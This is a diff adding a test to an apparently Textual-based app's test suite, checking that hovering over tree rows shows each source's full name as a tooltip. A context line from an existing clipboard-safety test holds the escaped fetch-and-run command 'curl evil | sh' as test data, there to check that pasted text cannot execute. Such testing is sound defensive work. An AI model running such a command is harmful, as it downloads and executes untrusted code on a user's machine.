@@ -273,3 +273,14 @@ async def test_what_is_copied_cannot_run_where_it_is_pasted() -> None:
             await stage.press(key)
             assert stage.app.clipboard.startswith("layer\\x0acurl evil | sh"), key
             assert stage.app.clipboard.isprintable(), key
+
+
+async def test_the_pointer_on_a_row_shows_its_full_name() -> None:
+    async with on_stage(MemorySource({"[bold]a.b": ramp(3), "c": ramp(3)})) as stage:
+        tree = stage.screen.tree_view
+        await stage.pilot.hover(tree, offset=(5, 1))
+        assert str(tree.tooltip) == "[bold]a.b"
+        await stage.pilot.hover(tree, offset=(5, 2))
+        assert str(tree.tooltip) == "c"
+        await stage.pilot.hover(tree, offset=(5, 9))
+        assert tree.tooltip is None
